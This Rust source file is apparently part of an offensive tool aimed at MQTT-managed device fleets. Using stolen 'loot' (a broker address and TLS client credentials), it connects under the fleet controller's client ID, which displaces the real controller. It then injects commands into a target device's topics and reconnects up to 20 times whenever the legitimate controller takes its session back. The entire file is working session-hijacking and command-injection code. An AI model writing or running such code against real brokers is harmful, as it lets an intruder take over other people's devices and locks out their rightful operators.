//! The thief at the broker, in the controller's name.

use crate::loot::Loot;
use anyhow::{Context as _, Result, bail};
use rumqttc::v5::mqttbytes::QoS;
use rumqttc::v5::mqttbytes::v5::{ConnectReturnCode, Packet, PubAckReason};
use rumqttc::v5::{AsyncClient, Event, EventLoop, MqttOptions};
use rumqttc::{TlsConfiguration, Transport};
use shoal_protocol::ids::DeviceId;
use shoal_protocol::topics::{CONTROLLER, Topic};
use std::time::Duration;

/// The real controller wants its place back, and puts the thief out: tried so often.
const TRIES: u32 = 20;
const PATIENCE: Duration = Duration::from_secs(10);

/// Publishes messages to the device one after the other; for each, whether the broker took it. What was on its way when the real
/// controller took its place back is sent once more, so that a device may get it twice.
pub(crate) async fn send(loot: &Loot, device: &DeviceId, messages: &[(Topic, Vec<u8>)]) -> Result<Vec<bool>> {
    let mut taken = Vec::with_capacity(messages.len());
    let mut tries = 0;
    while taken.len() < messages.len() {
        tries += 1;
        if tries > TRIES {
            bail!("the broker took {} of {} messages", taken.len(), messages.len());
        }
        let Some((client, mut events)) = connect(loot).await? else { continue };
        while let Some((topic, message)) = messages.get(taken.len()) {
            client.publish(topic.of(&loot.fleet, device), QoS::AtLeastOnce, false, message.clone()).await?;
            match answer(&mut events).await? {
                Some(yes) => taken.push(yes),
                // A broker may end the connection over what it does not take.
                None if topic.is_up() => taken.push(false),
                None => break,
            }
            if taken.last() == Some(&false) {
                break;
            }
        }
    }
    Ok(taken)
}

async fn connect(loot: &Loot) -> Result<Option<(AsyncClient, EventLoop)>> {
    let mut options = MqttOptions::new(CONTROLLER, loot.broker.0.clone(), loot.broker.1);
    options.set_transport(Transport::tls_with_config(TlsConfiguration::Rustls(loot.tls()?)));
    options.set_clean_start(true);
    options.set_max_packet_size(Some(1 << 20));
    let (client, mut events) = AsyncClient::new(options, 8);
    let open = async {
        loop {
            match events.poll().await {
                Ok(Event::Incoming(Packet::ConnAck(ack))) => return ack.code == ConnectReturnCode::Success,
                Ok(_) => {}
                Err(_) => return false,
            }
        }
    };
    let up = tokio::time::timeout(PATIENCE, open).await.context("the broker does not answer")?;
    Ok(up.then_some((client, events)))
}

/// What the broker says to the message that is on its way; nothing when it ends the connection.
async fn answer(events: &mut EventLoop) -> Result<Option<bool>> {
    let said = async {
        loop {
            match events.poll().await {
                Ok(Event::Incoming(Packet::PubAck(ack))) => {
                    let yes =
                        matches!(ack.reason, PubAckReason::Success | PubAckReason::NoMatchingSubscribers);
                    return Some(yes);
                }
                Ok(_) => {}
                Err(_) => return None,
            }
        }
    };
    tokio::time::timeout(PATIENCE, said).await.context("the broker did not take it in 10 s")
}
